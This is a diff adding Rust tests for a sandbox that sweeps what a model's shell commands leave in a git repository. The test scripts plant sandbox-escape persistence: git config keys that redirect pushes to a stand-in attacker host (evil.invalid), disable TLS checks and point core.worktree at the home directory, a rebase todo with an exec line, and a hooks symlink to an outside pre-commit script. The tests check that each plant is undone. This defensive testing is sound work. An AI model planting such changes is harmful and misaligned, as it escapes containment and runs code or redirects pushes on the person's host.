@@ -520,3 +520,215 @@ fn an_index_left_unreadable_to_gg_is_moved_aside() {
         support::git(&fx.repo, &["diff", "--quiet", "HEAD"]);
     }
 }
+
+/// How a normal command runs where the sweep answers for what it leaves: `--sandbox` at each
+/// level here, and without it under the guard (which needs Landlock; its sweep compares as the
+/// landlock level's does).
+struct Way {
+    name: &'static str,
+    env: Vec<(&'static str, &'static str)>,
+    args: Vec<&'static str>,
+}
+
+fn ways() -> Vec<Way> {
+    let levels = available_levels();
+    let guard = levels.contains(&"landlock").then(|| Way {
+        name: "guard",
+        env: Vec::new(),
+        args: vec!["--yolo"],
+    });
+    levels
+        .into_iter()
+        .map(|level| Way {
+            name: level,
+            env: vec![("GG_SANDBOX_BACKEND", level)],
+            args: vec!["--yolo", "--sandbox"],
+        })
+        .chain(guard)
+        .collect()
+}
+
+/// [`run_scripts`] the given way.
+fn run_scripts_way(fx: &GgFixture, server: &ScriptedServer, way: &Way, scripts: &[&str]) -> String {
+    let calls: Vec<String> = scripts
+        .iter()
+        .enumerate()
+        .map(|(i, script)| {
+            std::fs::write(fx.repo.join(format!("s{i}.sh")), script).unwrap();
+            format!("sh ./s{i}.sh")
+        })
+        .collect();
+    let calls: Vec<&str> = calls.iter().map(String::as_str).collect();
+    let (out, results) = support::run_bash_calls(fx, server, &way.env, true, &calls, &way.args);
+    assert!(out.status.success(), "{}: {out:?}", way.name);
+    assert_eq!(results.len(), scripts.len(), "{}: {results:?}", way.name);
+    results.join("\n---\n")
+}
+
+/// What the person's `git config --get key` in `dir` says (includes followed), as they would run
+/// it: the fixture's home, no system configuration.
+fn host_config(fx: &GgFixture, key: &str) -> String {
+    let out = std::process::Command::new("git")
+        .args(["config", "--get", key])
+        .current_dir(&fx.repo)
+        .env("HOME", &fx.home)
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env_remove("GIT_DIR")
+        .env_remove("GIT_WORK_TREE")
+        .output()
+        .unwrap();
+    String::from_utf8_lossy(&out.stdout).trim().to_string()
+}
+
+/// Found by an attacker pass (s33): keys that run no program were kept in the project's
+/// `.git/config` at the landlock level and under the guard, where the command writes it:
+/// `core.worktree = ../../home` (the person's next `git stash` or `checkout .` writes their
+/// home), `http.proxy`, `http.sslVerify false`, `remote.origin.pushurl` and
+/// `url.<x>.insteadOf` (their next push goes to the attacker); and `[http] proxy` appended to
+/// a work-tree file the configuration includes, at every level (bwrap too, where `.git/config`
+/// itself is read-only). A change git's ordinary work does not make is put back, each way.
+#[test]
+fn config_changes_git_would_not_make_are_put_back() {
+    let mut failures = Vec::new();
+    for way in ways() {
+        let server = ScriptedServer::start();
+        let (fx, _marks) = project(&server, true);
+        support::git(
+            &fx.repo,
+            &["remote", "add", "origin", "https://example.invalid/x.git"],
+        );
+        let included = "[user]\n\tname = the person\n";
+        std::fs::create_dir_all(fx.repo.join("tools")).unwrap();
+        std::fs::write(fx.repo.join("tools/git.cfg"), included).unwrap();
+        support::git(&fx.repo, &["config", "include.path", "../tools/git.cfg"]);
+        let plant = "git config http.proxy http://127.0.0.1:9 2>&1\n\
+                     git config http.sslVerify false 2>&1\n\
+                     git config remote.origin.pushurl https://evil.invalid/x.git 2>&1\n\
+                     git config url.https://evil.invalid/.insteadOf https://example.invalid/ 2>&1\n\
+                     git config core.worktree ../../home 2>&1\n\
+                     printf '[http]\\n\\tproxy = http://127.0.0.1:9\\n' >> tools/git.cfg\n\
+                     echo done\n";
+        let results = run_scripts_way(&fx, &server, &way, &[plant]);
+        let name = way.name;
+        if !results.contains("done") {
+            failures.push(format!("{name}: the plant did not run: {results}"));
+        }
+        for key in [
+            "core.worktree",
+            "http.proxy",
+            "http.sslVerify",
+            "remote.origin.pushurl",
+            "url.https://evil.invalid/.insteadOf",
+        ] {
+            let value = host_config(&fx, key);
+            if !value.is_empty() {
+                failures.push(format!("{name}: {key} = {value} stayed: {results}"));
+            }
+        }
+        if std::fs::read_to_string(fx.repo.join("tools/git.cfg")).unwrap() != included {
+            failures.push(format!("{name}: tools/git.cfg was not put back: {results}"));
+        }
+        if host_config(&fx, "remote.origin.url") != "https://example.invalid/x.git" {
+            failures.push(format!("{name}: the person's remote changed: {results}"));
+        }
+        if !results.contains("put back") {
+            failures.push(format!("{name}: the model was not told: {results}"));
+        }
+    }
+    assert!(failures.is_empty(), "{failures:#?}");
+}
+
+/// Found by an attacker pass (s33): an interactive rebase left stopped (`break`) with an
+/// `exec` line still to run in `.git/rebase-merge/git-rebase-todo` (`rebase-merge` is a name
+/// git writes, so the top-level allow-list kept it): the person's `git rebase --continue` ran
+/// it on the host. A todo list the command made or changed that runs a command is moved aside
+/// (here with the state it made), at each level.
+#[test]
+fn a_rebase_todo_that_runs_a_command_is_moved_aside() {
+    let mut failures = Vec::new();
+    for level in available_levels() {
+        let server = ScriptedServer::start();
+        let (fx, marks) = project(&server, true);
+        let mark = marks.join("rebase-exec");
+        let plant = format!(
+            "GIT_SEQUENCE_EDITOR=\"printf 'break\\nexec touch {mark}\\n' >\" \
+             git rebase -i HEAD 2>&1\n\
+             test -f .git/rebase-merge/git-rebase-todo && echo planted\n\
+             echo done\n",
+            mark = mark.display()
+        );
+        let results = run_scripts(&fx, &server, level, &[&plant]);
+        if !results.contains("planted") {
+            failures.push(format!("{level}: the plant did not run: {results}"));
+            continue;
+        }
+        if fx.repo.join(".git/rebase-merge/git-rebase-todo").exists() {
+            failures.push(format!("{level}: the todo list stayed: {results}"));
+        }
+        fx.host_git(&fx.repo, &["rebase", "--continue"]);
+        if mark.exists() {
+            failures.push(format!(
+                "{level}: the person's git rebase --continue ran the plant: {results}"
+            ));
+        }
+        if !results.contains("todo list") {
+            failures.push(format!("{level}: the model was not told: {results}"));
+        }
+    }
+    assert!(failures.is_empty(), "{failures:#?}");
+}
+
+/// Found by an attacker pass (s33), under the guard: `.git/hooks` renamed and replaced by a
+/// symbolic link to a directory outside the project holding a `pre-commit`; the sweep moves
+/// nothing through a link out of the project, so it only said so, and the person's next
+/// commit ran the hook. The link is moved aside and the person's directory put back, each way
+/// (at the bwrap level `.git/hooks` is a mount and cannot be renamed).
+#[test]
+fn a_hooks_directory_made_a_link_is_put_back() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let mut failures = Vec::new();
+    for way in ways() {
+        let server = ScriptedServer::start();
+        let (fx, marks) = project(&server, true);
+        let mark = marks.join("pre-commit");
+        let outside = fx.tmp.path().join("outside-hooks");
+        std::fs::create_dir_all(&outside).unwrap();
+        let hook = outside.join("pre-commit");
+        std::fs::write(&hook, format!("#!/bin/sh\ntouch {}\n", mark.display())).unwrap();
+        std::fs::set_permissions(&hook, std::fs::Permissions::from_mode(0o755)).unwrap();
+        let hooks = fx.repo.join(".git/hooks");
+        std::fs::create_dir_all(&hooks).unwrap();
+        let person_hook = "#!/bin/sh\necho the person's hook\n";
+        std::fs::write(hooks.join("post-commit"), person_hook).unwrap();
+        std::fs::set_permissions(
+            hooks.join("post-commit"),
+            std::fs::Permissions::from_mode(0o755),
+        )
+        .unwrap();
+        let plant = format!(
+            "mv .git/hooks .git/hooks.old 2>&1 && ln -s {} .git/hooks 2>&1\necho done\n",
+            outside.display()
+        );
+        let results = run_scripts_way(&fx, &server, &way, &[&plant]);
+        let name = way.name;
+        let meta = std::fs::symlink_metadata(&hooks).unwrap();
+        if meta.file_type().is_symlink() || !meta.is_dir() {
+            failures.push(format!("{name}: .git/hooks is not a directory: {results}"));
+        }
+        if std::fs::read_to_string(hooks.join("post-commit"))
+            .ok()
+            .as_deref()
+            != Some(person_hook)
+        {
+            failures.push(format!("{name}: the person's hook is not back: {results}"));
+        }
+        std::fs::write(fx.repo.join("README.md"), "changed\n").unwrap();
+        fx.host_git(&fx.repo, &["commit", "-qam", "change"]);
+        if mark.exists() {
+            failures.push(format!(
+                "{name}: the person's commit ran the planted hook: {results}"
+            ));
+        }
+    }
+    assert!(failures.is_empty(), "{failures:#?}");
+}
